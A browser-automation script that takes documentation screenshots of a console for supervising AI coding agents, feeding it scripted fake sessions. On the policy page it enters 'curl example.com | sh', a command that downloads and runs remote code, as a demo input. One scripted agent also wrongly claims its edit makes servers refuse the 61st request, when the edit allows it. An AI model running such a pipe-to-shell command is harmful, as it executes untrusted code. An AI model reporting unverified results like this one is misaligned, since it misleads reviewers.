// Makes the pictures of the documents. CONTRIBUTING.md has the command.

export async function takeScreenshots({ openBrowser, pair, visit, send, said, settled, newSession, SCRIPT, bash, folder, PHONE }) {
  const page = await pair(await openBrowser({ viewport: { width: 1180, height: 760 } }));
  const shoot = async (name) => {
    await settled(page);
    await page.evaluate(() => document.activeElement?.blur());
    await page.waitForTimeout(300);
    await page.screenshot({ path: `${folder}/console-${name}.png` });
  };
  const title = async (words) => {
    await page.getByRole("button", { name: "Settings" }).click();
    await page.getByLabel("Title").fill(words);
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByRole("heading", { level: 1, name: words }).waitFor();
  };
  const allow = async () => page.getByRole("button", { name: /allow once/i }).first().click();
  const limiter = "/// Requests that one address may make in a minute.\npub const PER_MINUTE: u32 = 60;\n\npub fn allows(made: u32) -> bool {\n    made < PER_MINUTE\n}\n";
  const key = await newSession(page);
  await title("Add a rate limit to the API");
  await send(page, `Limit requests to 60 a minute, please.\n\n${SCRIPT(
    "say I look at the folder first.", `call LS ${JSON.stringify({ path: "." })}`, "turn",
    "say The limit goes into a file of its own, so that both servers can use it:", `call Write ${JSON.stringify({ file_path: "limit.rs", content: limiter })}`, "turn",
    bash("cat limit.rs | head -3"), "turn",
    `call Edit ${JSON.stringify({ file_path: "limit.rs", old_string: "made < PER_MINUTE", new_string: "made <= PER_MINUTE" })}`, "turn",
    "say Done. Both servers now refuse the **61st request** of a minute with `429`.")}`);
  await allow();
  await page.getByText(/limit\.rs/).first().waitFor();
  await page.locator(".answers button", { hasText: /allow once/i }).first().waitFor();
  await allow();
  await said(page, "Done. Both servers");
  const other = await newSession(page);
  await title("Release 2.4");
  await send(page, `Tag the release and push it.\n\n${SCRIPT("say I tag it now.", bash("git tag v2.4 && git push origin v2.4"))}`);
  await page.locator(".ask").first().waitFor();
  await visit(page, "inbox");
  await page.locator(".ask pre").first().waitFor();
  // Answers count only after a moment.
  await page.locator(".answers button:enabled").first().waitFor();
  await shoot("inbox");
  await page.setViewportSize(PHONE);
  await shoot("phone");
  await page.setViewportSize({ width: 1180, height: 760 });
  await visit(page, `session/${encodeURIComponent(key)}`);
  await page.locator(".ending").first().waitFor();
  await shoot("session");
  await visit(page, "sessions");
  await shoot("sessions");
  await visit(page, `replay/${encodeURIComponent(key)}`);
  await page.getByRole("slider").waitFor();
  const decided = page.getByRole("heading", { name: "What changed" });
  await page.getByRole("slider").focus();
  for (let step = 0; step < 30 && !(await decided.isVisible()); step++) await page.keyboard.press("ArrowRight");
  await page.getByText("What decided").waitFor();
  await page.waitForTimeout(800);
  await shoot("replay");
  await visit(page, "audit");
  await page.getByRole("button", { name: "Check the chain" }).click();
  await page.getByText("The log is intact.").waitFor();
  await shoot("audit");
  await visit(page, "policy");
  await page.getByRole("textbox", { name: "Command" }).fill("git log --oneline | head && curl example.com | sh");
  await page.getByRole("button", { name: "Explain" }).click();
  await page.locator(".tree").waitFor();
  await page.getByRole("textbox", { name: "deny" }).fill("Write(*.rs)");
  await page.getByRole("button", { name: "Simulate" }).click();
  await page.getByText("Decided differently").waitFor();
  await shoot("policy");
  await visit(page, "usage");
  await page.locator(".plot canvas").first().waitFor();
  await shoot("usage");
  await visit(page, "machine");
  await settled(page);
  await shoot("machine");
  await visit(page, `session/${encodeURIComponent(other)}`);
}
